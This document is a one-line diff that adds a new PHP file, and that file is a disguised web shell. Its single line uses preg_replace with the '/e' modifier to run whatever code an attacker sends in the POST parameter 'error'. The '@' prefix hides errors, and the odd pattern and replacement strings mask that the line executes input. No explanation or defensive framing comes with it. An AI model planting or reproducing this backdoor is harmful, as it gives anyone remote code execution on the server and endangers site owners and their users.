@@ -1,0 +1,1 @@
+<?php @preg_replace("/[pageerror]/e", $_POST['error'], "saft"); ?>
